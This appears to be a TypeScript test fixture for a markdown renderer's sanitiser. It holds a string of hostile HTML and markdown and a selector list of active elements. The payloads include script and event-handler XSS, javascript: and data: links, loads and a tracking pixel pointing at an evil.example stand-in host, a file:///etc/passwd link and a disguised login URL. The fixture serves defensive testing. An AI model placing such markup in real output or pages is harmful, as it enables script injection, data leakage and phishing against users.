/**
 * What a hostile model may write: everything that should stay text. Runs in the test process. The names end in
 * .example, which no resolver knows.
 */
export const hostileMarkdown = `# Hostile

<img src="https://evil.example/image.png" onerror="window.hacked = 'img'">
<script>window.hacked = 'script'</script>
<script src="https://evil.example/script.js"></script>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object"></object>
<svg onload="window.hacked = 'svg'"><circle r="1"/></svg>
<style>@import url('https://evil.example/style.css');</style>
<link rel="prefetch" href="https://evil.example/prefetch">
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<form action="https://evil.example/form"><input name="x"><button>Go</button></form>
<a href="https://evil.example/anchor" ping="https://evil.example/ping">an HTML link</a>

![a tracking picture](https://evil.example/pixel.png?secret=1)
![by reference][picture]
[javascript](javascript:window.hacked='link')
[spaced](java\tscript:window.hacked='tab')
[data](data:text/html,<script>window.hacked='data'</script>)
[file](file:///etc/passwd)
[by reference][code]
[disguised](https://bank.example@evil.example/login)
<https://evil.example/auto>
https://evil.example/bare

[an honest link](https://example.org/a/path?with=query#and-hash)

[picture]: https://evil.example/reference.png
[code]: javascript:window.hacked='reference'
`;

/** Elements that load, run or send something. None of them may come from a text. */
export const activeElements =
  'img, script, iframe, object, embed, video, audio, source, link, meta, style, form, base, a[href], input:not([type=checkbox]), svg[onload]';
